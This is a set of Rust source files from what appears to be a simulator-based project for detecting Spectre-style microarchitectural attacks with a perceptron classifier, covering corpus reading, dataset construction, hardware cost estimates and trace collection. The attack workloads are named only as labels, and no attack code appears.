        self.traces[t].pages_off + 8 * rows + 8 * rows * col as u64
    }

    /// Reads one raw sample row of trace `t` into `row` (cleared first)
    /// and returns its committed-instruction count. This is a gather —
    /// one value from every column page; cheap against a map, syscall-
    /// heavy on the `pread` fallback (use [`CorpusReader::read_rows`] for
    /// sequential consumption there).
    ///
    /// # Panics
    ///
    /// Panics if `t` is out of range.
    pub fn read_row(&self, t: usize, j: usize, row: &mut Vec<f64>) -> Result<u64, CorpusIoError> {
        let meta = &self.traces[t];
        if j >= meta.rows {
            return Err(CorpusIoError::Corrupt(format!(
                "row {j} out of range ({} rows)",
                meta.rows
            )));
        }
        let n_cols = self.schema.len();
        row.clear();
        row.reserve(n_cols);
        let mut b8 = [0u8; 8];
        self.source
            .read_into(self.insts_off(t) + 8 * j as u64, &mut b8)?;
        let insts = u64::from_le_bytes(b8);
        for c in 0..n_cols {
            self.source
                .read_into(self.col_off(t, c) + 8 * j as u64, &mut b8)?;
            row.push(f64::from_le_bytes(b8));
        }
        Ok(insts)
    }

    /// Reads rows `[j0, j0 + count)` of trace `t` in one blocked pass:
    /// each column page is read once, contiguously, then transposed into
    /// row-major `rows` (cleared first); the matching instruction counts
    /// land in `insts`. Resident cost is `count × columns × 8` bytes.
    ///
    /// # Panics
    ///
    /// Panics if `t` is out of range.
    pub fn read_rows(
        &self,
        t: usize,
        j0: usize,
        count: usize,
        insts: &mut Vec<u64>,
        rows: &mut Vec<f64>,
    ) -> Result<(), CorpusIoError> {
        let meta = &self.traces[t];
        if j0 + count > meta.rows {
            return Err(CorpusIoError::Corrupt(format!(
                "rows [{j0}, {}) out of range ({} rows)",
                j0 + count,
                meta.rows
            )));
        }
        let n_cols = self.schema.len();
        insts.clear();
        rows.clear();
        rows.resize(count * n_cols, 0.0);
        let mut page = vec![0u8; 8 * count];
        self.source
            .read_into(self.insts_off(t) + 8 * j0 as u64, &mut page)?;
        insts.extend(
            page.chunks_exact(8)
                .map(|c| u64::from_le_bytes(c.try_into().unwrap())),
        );
        for c in 0..n_cols {
            self.source
                .read_into(self.col_off(t, c) + 8 * j0 as u64, &mut page)?;
            for (r, bytes) in page.chunks_exact(8).enumerate() {
                rows[r * n_cols + c] = f64::from_le_bytes(bytes.try_into().unwrap());
            }
        }
        Ok(())
    }

    /// Streams every row of trace `t` through `f` in blocks of
    /// [`DEFAULT_BLOCK_ROWS`], oldest first — bounded resident memory
    /// regardless of trace length.
    pub fn for_each_row(
        &self,
        t: usize,
        mut f: impl FnMut(u64, &[f64]),
    ) -> Result<(), CorpusIoError> {
        let rows = self.traces[t].rows;
        let n_cols = self.schema.len();
        let mut insts = Vec::new();
        let mut block = Vec::new();
        let mut j = 0;
        while j < rows {
            let count = DEFAULT_BLOCK_ROWS.min(rows - j);
            self.read_rows(t, j, count, &mut insts, &mut block)?;
            for (r, &at) in insts.iter().enumerate() {
                f(at, &block[r * n_cols..(r + 1) * n_cols]);
            }
            j += count;
        }
        Ok(())
    }

    /// Materializes trace `t` as a full in-memory [`LabeledTrace`].
    ///
    /// # Panics
    ///
    /// Panics if `t` is out of range.
    pub fn load_trace(&self, t: usize) -> Result<LabeledTrace, CorpusIoError> {
        let meta = self.traces[t].clone();
        let mut trace = SampleTrace::new(self.schema.clone());
        self.for_each_row(t, |at, row| trace.push(at, row))?;
        Ok(LabeledTrace {
            name: meta.name,
            class: meta.class,
            family: meta.family,
            trace,
            marks: meta.marks,
        })
    }

    /// Materializes the whole file as an in-memory [`CollectedCorpus`] —
    /// the inverse of [`write_corpus`], byte-identical sample values
    /// included.
    pub fn load_all(&self) -> Result<CollectedCorpus, CorpusIoError> {
        let traces = (0..self.n_traces())
            .map(|t| self.load_trace(t))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }
}
