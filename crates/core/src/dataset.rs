//! Flattening a collected corpus into a labeled sample matrix.

use std::sync::Arc;

use mlkit::{BitRow, PackedRows};
use uarch_stats::Schema;
use workloads::{Class, Family};

use crate::encode::{MaxMatrix, RowEncoder};
use crate::features::component_of;
use crate::trace::CollectedCorpus;

pub use crate::encode::Encoding;

/// One labeled sample (a single sampling window of one workload).
#[derive(Debug, Clone)]
pub struct Sample {
    /// Feature vector (normalized or binarized, per dataset encoding).
    pub x: Vec<f64>,
    /// +1 malicious / −1 benign.
    pub y: i8,
    /// Index of the originating workload within the corpus.
    pub workload: usize,
    /// Attack family of the originating workload.
    pub family: Family,
    /// Committed-instruction count when the sample was taken.
    pub at_inst: u64,
}

/// A flattened dataset over the full 1159-statistic space.
#[derive(Debug, Clone)]
pub struct Dataset {
    /// All samples.
    pub samples: Vec<Sample>,
    /// The statistic schema (column names).
    pub schema: Schema,
    /// The fitted max matrix (kept for encoding unseen traces).
    pub max_matrix: MaxMatrix,
    /// The encoding used for [`Sample::x`].
    pub encoding: Encoding,
    /// Pipeline components with at least one nonzero raw counter in
    /// *every* training interval. These sensors never go quiet on a
    /// healthy machine, so an all-zero reading at deployment time
    /// indicates dropout — the basis of the streaming path's
    /// [`Degraded`](crate::stream::Degraded) status.
    pub always_active_components: Vec<String>,
}

impl Dataset {
    /// Builds a dataset from a corpus with the chosen encoding. The max
    /// matrix is fitted on the same corpus (the paper's offline profiling).
    pub fn from_corpus(corpus: &CollectedCorpus, encoding: Encoding) -> Self {
        let max_matrix = MaxMatrix::fit(corpus);
        let encoder = RowEncoder::new(Arc::new(max_matrix.clone()), encoding);
        let mut samples = Vec::with_capacity(corpus.total_samples());
        for (w, t) in corpus.traces.iter().enumerate() {
            let y = if t.class == Class::Malicious { 1 } else { -1 };
            for (j, row) in t.trace.rows().enumerate() {
                samples.push(Sample {
                    x: encoder.encode(row, j),
                    y,
                    workload: w,
                    family: t.family,
                    at_inst: t.trace.instruction_counts()[j],
                });
            }
        }
        Self {
            samples,
            schema: corpus.schema().clone(),
            max_matrix,
            encoding,
            always_active_components: always_active_components(corpus),
        }
    }

    /// Feature matrix view (row clones).
    pub fn x(&self) -> Vec<Vec<f64>> {
        self.samples.iter().map(|s| s.x.clone()).collect()
    }

    /// Label vector.
    pub fn y(&self) -> Vec<i8> {
        self.samples.iter().map(|s| s.y).collect()
    }

    /// Per-sample workload indices (group ids for held-out CV).
    pub fn groups(&self) -> Vec<usize> {
        self.samples.iter().map(|s| s.workload).collect()
    }

    /// The time series of one feature column pooled over all samples (used
    /// by the correlation step).
    pub fn column(&self, i: usize) -> Vec<f64> {
        self.samples.iter().map(|s| s.x[i]).collect()
    }

    /// Projects every sample onto the given feature indices.
    pub fn project(&self, indices: &[usize]) -> (Vec<Vec<f64>>, Vec<i8>) {
        let x = self
            .samples
            .iter()
            .map(|s| indices.iter().map(|&i| s.x[i]).collect())
            .collect();
        (x, self.y())
    }

    /// Projects every sample onto the given feature indices as bit-packed
    /// rows, ready for [`mlkit::PackedPerceptron::score_rows`]. Every lane
    /// is valid: dataset samples were already encoded (and masked) by the
    /// [`RowEncoder`], so a stored `0.0` carries no degradation history.
    ///
    /// # Panics
    ///
    /// Panics unless the dataset uses [`Encoding::KSparse`]: packed rows
    /// represent the binarized encoding only.
    pub fn packed_rows(&self, indices: &[usize]) -> PackedRows {
        assert_eq!(
            self.encoding,
            Encoding::KSparse,
            "packed rows exist only for the k-sparse binarized encoding"
        );
        let mut rows = PackedRows::new(indices.len());
        let mut row = BitRow::zeros(indices.len());
        for s in &self.samples {
            row.clear();
            for (lane, &i) in indices.iter().enumerate() {
                if s.x[i] == 1.0 {
                    row.set(lane, true);
                }
            }
            rows.push(&row).expect("row width matches batch width");
        }
        rows
    }

    /// Number of samples.
    pub fn len(&self) -> usize {
        self.samples.len()
    }

    /// Whether the dataset is empty.
    pub fn is_empty(&self) -> bool {
        self.samples.is_empty()
    }

    /// Class balance `(malicious, benign)`.
    pub fn class_counts(&self) -> (usize, usize) {
        let pos = self.samples.iter().filter(|s| s.y > 0).count();
        (pos, self.len() - pos)
    }
}

/// The components whose sensors never read all-zero in any interval of
/// `corpus` — the set a live monitor may treat as "must be alive".
fn always_active_components(corpus: &CollectedCorpus) -> Vec<String> {
    let schema = corpus.schema();
    // Column → component-group index, plus group labels, resolved once.
    let mut labels: Vec<String> = Vec::new();
    let mut group_of: Vec<usize> = Vec::with_capacity(schema.len());
    for name in schema.names() {
        let label = component_of(name);
        let g = match labels.iter().position(|l| l == label) {
            Some(g) => g,
            None => {
                labels.push(label.to_string());
                labels.len() - 1
            }
        };
        group_of.push(g);
    }
    let mut always_active = vec![true; labels.len()];
    let mut fired = vec![false; labels.len()];
    for t in &corpus.traces {
        for row in t.trace.rows() {
            fired.iter_mut().for_each(|f| *f = false);
            for (i, &v) in row.iter().enumerate() {
                if v != 0.0 {
                    fired[group_of[i]] = true;
                }
            }
            for (g, &f) in fired.iter().enumerate() {
                if !f {
                    always_active[g] = false;
                }
            }
        }
    }
    labels
        .into_iter()
        .zip(always_active)
        .filter_map(|(l, keep)| keep.then_some(l))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::trace::CorpusSpec;

    fn tiny_dataset(encoding: Encoding) -> Dataset {
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "flush-flush" || w.name == "hmmer");
        let corpus = CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        Dataset::from_corpus(&corpus, encoding)
    }

    #[test]
    fn ksparse_encoding_is_binary() {
        let d = tiny_dataset(Encoding::KSparse);
        assert!(!d.is_empty());
        for s in &d.samples {
            assert!(s.x.iter().all(|&v| v == 0.0 || v == 1.0));
        }
    }

    #[test]
    fn normalized_encoding_is_unit_bounded() {
        let d = tiny_dataset(Encoding::Normalized);
        for s in &d.samples {
            assert!(s.x.iter().all(|&v| (0.0..=1.0).contains(&v)));
        }
    }

    #[test]
    fn labels_and_groups_align_with_workloads() {
        let d = tiny_dataset(Encoding::KSparse);
        let (pos, neg) = d.class_counts();
        assert!(pos > 0 && neg > 0);
        for s in &d.samples {
            if s.workload == 0 {
                assert_eq!(s.y, 1, "first workload is the attack");
            } else {
                assert_eq!(s.y, -1);
            }
        }
    }

    #[test]
    fn always_active_components_include_the_core_stages() {
        let d = tiny_dataset(Encoding::KSparse);
        let active = &d.always_active_components;
        // The cycle counter alone keeps `cpu` alive every interval, and an
        // in-order front end cannot go a whole 10K-instruction window
        // without fetching.
        assert!(active.contains(&"cpu".to_string()), "active: {active:?}");
        assert!(active.contains(&"fetch".to_string()), "active: {active:?}");
        assert!(
            active.len() < 17,
            "some components must legitimately go quiet: {active:?}"
        );
    }

    #[test]
    fn project_selects_columns() {
        let d = tiny_dataset(Encoding::KSparse);
        let idx = vec![0, 5, 10];
        let (x, y) = d.project(&idx);
        assert_eq!(x.len(), y.len());
        assert!(x.iter().all(|r| r.len() == 3));
    }
}
