//! Hardware cost model: latency and storage of each candidate detector,
//! backing Table IV's "Hardware Complexity" row.
//!
//! The perceptron's dot product is computed by a modest sequential
//! accumulator (§IV-F): with binary inputs it adds or skips each weight, so
//! inference takes on the order of one cycle per input — trivially fast
//! against a 10K-instruction (~3 µs) sampling interval — and needs no
//! multipliers at all.

/// Latency/area summary for one detector implementation.
#[derive(Debug, Clone, PartialEq)]
pub struct HardwareCost {
    /// Cycles for one classification (sequential implementation).
    pub inference_cycles: u64,
    /// Bits of storage for parameters and profiling state.
    pub storage_bits: u64,
    /// Hardware multipliers required.
    pub multipliers: u64,
    /// Qualitative complexity class as printed in Table IV.
    pub complexity: &'static str,
}

/// Bits per stored weight (8-bit quantized weights, as perceptron branch
/// predictors use).
const WEIGHT_BITS: u64 = 8;
/// Bits per stored maximum (matrix *M* entry).
const MAX_BITS: u64 = 16;

impl HardwareCost {
    /// The PerSpectron perceptron: one add per input, no multipliers,
    /// weights plus the per-sampling-point maxima for the selected
    /// features.
    pub fn perceptron(inputs: usize, sample_points: usize) -> Self {
        let n = inputs as u64;
        let s = sample_points.max(1) as u64;
        Self {
            inference_cycles: n + 2, // sequential adds + sign check
            storage_bits: n * WEIGHT_BITS + n * s * MAX_BITS,
            multipliers: 0,
            complexity: "low",
        }
    }

    /// A decision tree: one comparison per level.
    pub fn decision_tree(nodes: usize, depth: usize) -> Self {
        Self {
            inference_cycles: depth as u64 + 1,
            storage_bits: nodes as u64 * (MAX_BITS + 12), // threshold + feature id
            multipliers: 0,
            complexity: "low",
        }
    }

    /// Logistic regression: same dataflow as the perceptron plus a
    /// sigmoid lookup.
    pub fn logistic_regression(inputs: usize) -> Self {
        let n = inputs as u64;
        Self {
            inference_cycles: n + 4,
            storage_bits: n * MAX_BITS,
            multipliers: 1,
            complexity: "low",
        }
    }

    /// KNN must store the training set and compute a distance per stored
    /// row — the "high overhead and classification latency" of §VII-B.
    pub fn knn(stored_rows: usize, inputs: usize) -> Self {
        let (r, n) = (stored_rows as u64, inputs as u64);
        Self {
            inference_cycles: r * n, // one subtract/accumulate per element
            storage_bits: r * n * MAX_BITS,
            multipliers: 1,
            complexity: "high",
        }
    }

    /// A neural network: `params` multiply-accumulates per inference.
    pub fn neural_network(params: usize) -> Self {
        Self {
            inference_cycles: params as u64 / 4, // 4 parallel MACs
            storage_bits: params as u64 * MAX_BITS,
            multipliers: 4,
            complexity: "high",
        }
    }

    /// Whether one classification fits inside a sampling interval of
    /// `interval_cycles`.
    pub fn fits_interval(&self, interval_cycles: u64) -> bool {
        self.inference_cycles <= interval_cycles
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn perceptron_inference_is_about_one_cycle_per_input() {
        let c = HardwareCost::perceptron(106, 60);
        assert_eq!(c.inference_cycles, 108);
        assert_eq!(c.multipliers, 0);
        assert_eq!(c.complexity, "low");
    }

    #[test]
    fn perceptron_fits_the_sampling_interval_easily() {
        // 10K instructions at IPC 1 and 2 GHz ≈ 10K cycles (3 µs window).
        let c = HardwareCost::perceptron(106, 60);
        assert!(c.fits_interval(10_000));
    }

    #[test]
    fn knn_is_orders_of_magnitude_heavier() {
        let p = HardwareCost::perceptron(106, 60);
        let k = HardwareCost::knn(5000, 106);
        assert!(k.inference_cycles > 1000 * p.inference_cycles);
        assert_eq!(k.complexity, "high");
        assert!(!k.fits_interval(10_000));
    }

    #[test]
    fn nn_needs_multipliers() {
        let n = HardwareCost::neural_network(106 * 32 + 32 * 2);
        assert!(n.multipliers > 0);
        assert_eq!(n.complexity, "high");
    }
}
