//! Trace collection: running labeled workloads on the simulator and
//! sampling all statistics at a fixed instruction granularity.
//!
//! Collection is streaming and parallel: each workload's core emits
//! per-interval delta rows through a [`SampleSink`] (no post-hoc stat-tree
//! walks), and [`CorpusSpec::collect`] fans the workloads out across
//! scoped threads with deterministic per-workload seeds and an ordered
//! merge — the parallel corpus is byte-for-byte identical to a serial one.

use sim_cpu::{Core, CoreConfig, MarkEvent, SimError};
use uarch_stats::{SampleSink, SampleTrace, Schema};
use workloads::{Class, Family, Workload};

/// Base seed for per-workload noise-RNG derivation.
const CORPUS_SEED: u64 = 0xcbf2_9ce4_8422_2325;

/// Deterministic per-workload seed: FNV-1a over the workload name, folded
/// into the corpus base seed. Depends only on the name — never on the
/// collection order or the thread that runs the workload.
pub fn workload_seed(name: &str) -> u64 {
    let mut h = CORPUS_SEED;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// A sampled statistics time series for one workload run.
#[derive(Debug, Clone)]
pub struct LabeledTrace {
    /// Workload name.
    pub name: String,
    /// Ground-truth class.
    pub class: Class,
    /// Attack family (or benign).
    pub family: Family,
    /// Per-interval statistic deltas (columnar, schema-shared).
    pub trace: SampleTrace,
    /// Simulator marks committed during the run (leak/phase events).
    pub marks: Vec<MarkEvent>,
}

/// What to collect: which workloads, how many instructions, at what
/// sampling interval.
#[derive(Debug, Clone)]
pub struct CorpusSpec {
    /// Instructions to simulate per workload.
    pub insts_per_workload: u64,
    /// Sampling interval in committed instructions (the paper uses 10K,
    /// 50K and 100K).
    pub sample_interval: u64,
    /// Workloads to run.
    pub workloads: Vec<Workload>,
}

impl CorpusSpec {
    /// The paper's full corpus (attacks + calibration + benign) at 10K
    /// sampling.
    pub fn paper() -> Self {
        Self {
            insts_per_workload: 600_000,
            sample_interval: 10_000,
            workloads: workloads::full_suite(),
        }
    }

    /// A small, fast corpus for tests and examples.
    pub fn quick() -> Self {
        let all = workloads::full_suite();
        Self {
            insts_per_workload: 120_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    /// Overrides the sampling interval (builder style).
    pub fn with_interval(mut self, interval: u64) -> Self {
        self.sample_interval = interval;
        self
    }

    /// Overrides the per-workload instruction budget (builder style).
    pub fn with_insts(mut self, insts: u64) -> Self {
        self.insts_per_workload = insts;
        self
    }

    /// Runs every workload and collects its trace, fanning out across all
    /// available cores. Identical output to [`CorpusSpec::collect_serial`].
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see [`CorpusSpec::try_collect`]).
    pub fn collect(&self) -> CollectedCorpus {
        self.try_collect().expect("corpus collection failed")
    }

    /// Serial reference collection (one workload after another).
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see [`CorpusSpec::try_collect_serial`]).
    pub fn collect_serial(&self) -> CollectedCorpus {
        self.try_collect_serial().expect("corpus collection failed")
    }

    /// Collects with an explicit worker-thread count.
    ///
    /// # Panics
    ///
    /// Panics on a simulator error (see
    /// [`CorpusSpec::try_collect_with_threads`]).
    pub fn collect_with_threads(&self, threads: usize) -> CollectedCorpus {
        self.try_collect_with_threads(threads)
            .expect("corpus collection failed")
    }

    /// Fallible variant of [`CorpusSpec::collect`]: fans out across all
    /// available cores and reports the first simulator error instead of
    /// panicking.
    pub fn try_collect(&self) -> Result<CollectedCorpus, SimError> {
        let threads = std::thread::available_parallelism().map_or(1, |n| n.get());
        self.try_collect_with_threads(threads)
    }

    /// Fallible serial reference collection (one workload after another).
    pub fn try_collect_serial(&self) -> Result<CollectedCorpus, SimError> {
        let traces = self
            .workloads
            .iter()
            .map(|w| try_collect_trace(w, self.insts_per_workload, self.sample_interval))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }

    /// Fallible collection with an explicit worker-thread count.
    ///
    /// The workload list is pre-partitioned into contiguous chunks, one per
    /// worker, and every worker writes its traces directly into its own
    /// slice of the result — no shared cursor to contend on and no
    /// post-join sort-merge. Seeds derive from the workload *name*, so the
    /// corpus is independent of the thread count and byte-equal to the
    /// serial path.
    pub fn try_collect_with_threads(&self, threads: usize) -> Result<CollectedCorpus, SimError> {
        let n = self.workloads.len();
        let threads = threads.clamp(1, n.max(1));
        if threads <= 1 {
            return self.try_collect_serial();
        }
        let chunk = n.div_ceil(threads);
        let mut slots: Vec<Option<Result<LabeledTrace, SimError>>> = Vec::new();
        slots.resize_with(n, || None);
        std::thread::scope(|s| {
            for (ws, out) in self.workloads.chunks(chunk).zip(slots.chunks_mut(chunk)) {
                s.spawn(move || {
                    for (w, slot) in ws.iter().zip(out.iter_mut()) {
                        *slot = Some(try_collect_trace(
                            w,
                            self.insts_per_workload,
                            self.sample_interval,
                        ));
                    }
                });
            }
        });
        let traces = slots
            .into_iter()
            .map(|s| s.expect("worker filled its slot"))
            .collect::<Result<Vec<_>, _>>()?;
        Ok(CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        })
    }
}

/// Runs one workload and samples its statistics, streaming each interval
/// into a columnar trace.
///
/// # Panics
///
/// Panics on a simulator error (see [`try_collect_trace`]).
pub fn collect_trace(w: &Workload, insts: u64, interval: u64) -> LabeledTrace {
    try_collect_trace(w, insts, interval).expect("trace collection failed")
}

/// Fallible variant of [`collect_trace`].
pub fn try_collect_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
) -> Result<LabeledTrace, SimError> {
    let mut core = Core::try_new(CoreConfig::default(), w.program.clone())?;
    core.set_noise_seed(workload_seed(&w.name));
    let mut trace = SampleTrace::new(core.stat_schema());
    core.run_with_sink(insts, interval, &mut trace)?;
    Ok(LabeledTrace {
        name: w.name.clone(),
        class: w.class,
        family: w.family,
        trace,
        marks: core.marks().to_vec(),
    })
}

/// Runs one workload, streaming each sampled interval straight into an
/// arbitrary sink (an online detector, a featurizer, a channel) instead of
/// materializing a trace. Returns the committed marks.
///
/// # Panics
///
/// Panics on a simulator error (see [`try_stream_trace`]).
pub fn stream_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
    sink: &mut dyn SampleSink,
) -> Vec<MarkEvent> {
    try_stream_trace(w, insts, interval, sink).expect("trace streaming failed")
}

/// Fallible variant of [`stream_trace`].
pub fn try_stream_trace(
    w: &Workload,
    insts: u64,
    interval: u64,
    sink: &mut dyn SampleSink,
) -> Result<Vec<MarkEvent>, SimError> {
    let mut core = Core::try_new(CoreConfig::default(), w.program.clone())?;
    core.set_noise_seed(workload_seed(&w.name));
    core.run_with_sink(insts, interval, sink)?;
    Ok(core.marks().to_vec())
}

/// A collected corpus: one trace per workload, sharing a schema.
#[derive(Debug, Clone)]
pub struct CollectedCorpus {
    /// The traces.
    pub traces: Vec<LabeledTrace>,
    /// The sampling interval the corpus was collected at.
    pub sample_interval: u64,
}

impl CollectedCorpus {
    /// The statistic schema (identical across traces).
    ///
    /// # Panics
    ///
    /// Panics if the corpus is empty.
    pub fn schema(&self) -> &Schema {
        self.traces
            .first()
            .expect("non-empty corpus")
            .trace
            .schema()
    }

    /// Total number of samples across all traces.
    pub fn total_samples(&self) -> usize {
        self.traces.iter().map(|t| t.trace.len()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_spec() -> CorpusSpec {
        // Two workloads keep this test fast.
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "spectre-v1-classic" || w.name == "bzip2");
        CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    #[test]
    fn collects_expected_sample_counts() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.traces.len(), 2);
        for t in &corpus.traces {
            assert_eq!(t.trace.len(), 6, "{}: 60k insts at 10k = 6 samples", t.name);
        }
    }

    #[test]
    fn schema_covers_all_1159_stats() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.schema().len(), 1159);
    }

    #[test]
    fn parallel_collection_is_byte_equal_to_serial() {
        let spec = tiny_spec();
        let serial = spec.collect_serial();
        let parallel = spec.collect_with_threads(2);
        assert_eq!(serial.traces.len(), parallel.traces.len());
        for (a, b) in serial.traces.iter().zip(&parallel.traces) {
            assert_eq!(a.name, b.name, "merge must preserve spec order");
            assert_eq!(a.trace.flat_values(), b.trace.flat_values());
            assert_eq!(a.trace.instruction_counts(), b.trace.instruction_counts());
            assert_eq!(a.marks, b.marks);
        }
    }

    #[test]
    fn workload_seeds_are_stable_and_name_derived() {
        assert_eq!(workload_seed("bzip2"), workload_seed("bzip2"));
        assert_ne!(workload_seed("bzip2"), workload_seed("hmmer"));
    }

    #[test]
    fn attack_trace_contains_leak_marks_and_labels() {
        let corpus = tiny_spec().collect();
        let spectre = corpus
            .traces
            .iter()
            .find(|t| t.name.starts_with("spectre"))
            .expect("spectre trace present");
        assert_eq!(spectre.class, Class::Malicious);
        assert!(!spectre.marks.is_empty(), "attack should mark leak events");
        let benign = corpus
            .traces
            .iter()
            .find(|t| t.name == "bzip2")
            .expect("bzip2");
        assert_eq!(benign.class, Class::Benign);
        assert!(benign.marks.is_empty());
    }

    #[test]
    fn samples_differ_between_attack_and_benign() {
        // Raw squash counts do NOT discriminate (branchy benign code like
        // bzip2 squashes constantly — that is the paper's point about
        // needing a rich feature combination). Flush-driven non-speculative
        // stalls, however, are an attack-side signal.
        let corpus = tiny_spec().collect();
        let col = "commit.NonSpecStalls";
        let spectre: f64 = corpus.traces[0]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        let benign: f64 = corpus.traces[1]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        assert!(
            spectre > benign,
            "spectre non-spec stalls ({spectre}) should dwarf bzip2 ({benign})"
        );
    }
}
