//! Trace collection: running labeled workloads on the simulator and
//! sampling all statistics at a fixed instruction granularity.

use sim_cpu::{Core, CoreConfig, MarkEvent};
use uarch_stats::{SampleTrace, Sampler, Schema};
use workloads::{Class, Family, Workload};

/// A sampled statistics time series for one workload run.
#[derive(Debug, Clone)]
pub struct LabeledTrace {
    /// Workload name.
    pub name: String,
    /// Ground-truth class.
    pub class: Class,
    /// Attack family (or benign).
    pub family: Family,
    /// Per-interval statistic deltas.
    pub trace: SampleTrace,
    /// Simulator marks committed during the run (leak/phase events).
    pub marks: Vec<MarkEvent>,
}

/// What to collect: which workloads, how many instructions, at what
/// sampling interval.
#[derive(Debug, Clone)]
pub struct CorpusSpec {
    /// Instructions to simulate per workload.
    pub insts_per_workload: u64,
    /// Sampling interval in committed instructions (the paper uses 10K,
    /// 50K and 100K).
    pub sample_interval: u64,
    /// Workloads to run.
    pub workloads: Vec<Workload>,
}

impl CorpusSpec {
    /// The paper's full corpus (attacks + calibration + benign) at 10K
    /// sampling.
    pub fn paper() -> Self {
        Self {
            insts_per_workload: 600_000,
            sample_interval: 10_000,
            workloads: workloads::full_suite(),
        }
    }

    /// A small, fast corpus for tests and examples.
    pub fn quick() -> Self {
        let all = workloads::full_suite();
        Self {
            insts_per_workload: 120_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    /// Overrides the sampling interval (builder style).
    pub fn with_interval(mut self, interval: u64) -> Self {
        self.sample_interval = interval;
        self
    }

    /// Overrides the per-workload instruction budget (builder style).
    pub fn with_insts(mut self, insts: u64) -> Self {
        self.insts_per_workload = insts;
        self
    }

    /// Runs every workload and collects its trace.
    pub fn collect(&self) -> CollectedCorpus {
        let traces: Vec<LabeledTrace> = self
            .workloads
            .iter()
            .map(|w| collect_trace(w, self.insts_per_workload, self.sample_interval))
            .collect();
        CollectedCorpus {
            traces,
            sample_interval: self.sample_interval,
        }
    }
}

/// Runs one workload and samples its statistics.
pub fn collect_trace(w: &Workload, insts: u64, interval: u64) -> LabeledTrace {
    let mut core = Core::new(CoreConfig::default(), w.program.clone());
    let mut sampler = Sampler::new(&core, "");
    let mut trace = SampleTrace::new(sampler.schema().clone());
    let mut next = interval;
    while next <= insts {
        core.run(next - core.committed_insts());
        if core.halted() || core.committed_insts() < next {
            break; // program ended or stalled
        }
        let row = sampler.sample(&core);
        trace.push(core.committed_insts(), row);
        next += interval;
    }
    LabeledTrace {
        name: w.name.clone(),
        class: w.class,
        family: w.family,
        trace,
        marks: core.marks().to_vec(),
    }
}

/// A collected corpus: one trace per workload, sharing a schema.
#[derive(Debug, Clone)]
pub struct CollectedCorpus {
    /// The traces.
    pub traces: Vec<LabeledTrace>,
    /// The sampling interval the corpus was collected at.
    pub sample_interval: u64,
}

impl CollectedCorpus {
    /// The statistic schema (identical across traces).
    ///
    /// # Panics
    ///
    /// Panics if the corpus is empty.
    pub fn schema(&self) -> &Schema {
        self.traces
            .first()
            .expect("non-empty corpus")
            .trace
            .schema()
    }

    /// Total number of samples across all traces.
    pub fn total_samples(&self) -> usize {
        self.traces.iter().map(|t| t.trace.len()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tiny_spec() -> CorpusSpec {
        // Two workloads keep this test fast.
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "spectre-v1-classic" || w.name == "bzip2");
        CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    #[test]
    fn collects_expected_sample_counts() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.traces.len(), 2);
        for t in &corpus.traces {
            assert_eq!(t.trace.len(), 6, "{}: 60k insts at 10k = 6 samples", t.name);
        }
    }

    #[test]
    fn schema_covers_all_1159_stats() {
        let corpus = tiny_spec().collect();
        assert_eq!(corpus.schema().len(), 1159);
    }

    #[test]
    fn attack_trace_contains_leak_marks_and_labels() {
        let corpus = tiny_spec().collect();
        let spectre = corpus
            .traces
            .iter()
            .find(|t| t.name.starts_with("spectre"))
            .expect("spectre trace present");
        assert_eq!(spectre.class, Class::Malicious);
        assert!(!spectre.marks.is_empty(), "attack should mark leak events");
        let benign = corpus
            .traces
            .iter()
            .find(|t| t.name == "bzip2")
            .expect("bzip2");
        assert_eq!(benign.class, Class::Benign);
        assert!(benign.marks.is_empty());
    }

    #[test]
    fn samples_differ_between_attack_and_benign() {
        // Raw squash counts do NOT discriminate (branchy benign code like
        // bzip2 squashes constantly — that is the paper's point about
        // needing a rich feature combination). Flush-driven non-speculative
        // stalls, however, are an attack-side signal.
        let corpus = tiny_spec().collect();
        let col = "commit.NonSpecStalls";
        let spectre: f64 = corpus.traces[0]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        let benign: f64 = corpus.traces[1]
            .trace
            .column(col)
            .expect("column exists")
            .iter()
            .sum();
        assert!(
            spectre > benign,
            "spectre non-spec stalls ({spectre}) should dwarf bzip2 ({benign})"
        );
    }
}
