//! Trace collection: running labeled workloads on the simulator and
//! sampling all statistics at a fixed instruction granularity.
//!
//! Collection is streaming and parallel: each workload's core emits
//! per-interval delta rows through a [`SampleSink`] (no post-hoc stat-tree
//! walks), and [`CorpusSpec::collect`] fans the workloads out across
//! scoped threads with deterministic per-workload seeds and an ordered
//! merge — the parallel corpus is byte-for-byte identical to a serial one.
//!
//! Collection is also *supervised*: every per-workload run executes under
//! `catch_unwind`, so one panicking simulation becomes a typed
//! [`SimError::WorkloadPanicked`] instead of poisoning the whole thread
//! scope, and [`CorpusSpec::try_collect_resilient`] adds a per-workload
//! cycle budget (watchdog for runaway programs), one retry with a fresh
